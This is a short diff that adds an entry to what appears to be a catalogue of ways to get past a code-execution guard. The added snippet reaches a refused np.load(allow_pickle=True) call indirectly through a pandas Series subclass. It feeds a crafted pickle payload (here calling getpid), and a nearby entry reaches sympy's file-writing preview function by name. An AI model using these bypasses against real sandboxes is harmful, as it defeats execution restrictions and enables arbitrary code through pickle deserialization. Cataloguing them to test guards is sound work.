@@ -689,6 +689,15 @@ DICTS_OF_OTHERS = [
         "data-analysis",
     ),
     Way(
+        "a function of another library that a text names",
+        "np.load(allow_pickle=True) is refused",
+        "import io, pandas as pd\ndata = io.BytesIO(b'cposix\\ngetpid\\n(tR.')\n"
+        "class S(pd.Series):\n    def read(self, *n): return data.read(*n)\n"
+        "    def readline(self, *n): return data.readline(*n)\n    def seek(self, *n): return data.seek(*n)\n"
+        "print(S([1]).agg('load', allow_pickle=True))",
+        "data-analysis",
+    ),
+    Way(
         "text that names a function of the library",
         "'Symbol' object is not callable",
         "import sympy\nsympy.sympify('preview')('x', viewer='file', filename='x.png')",
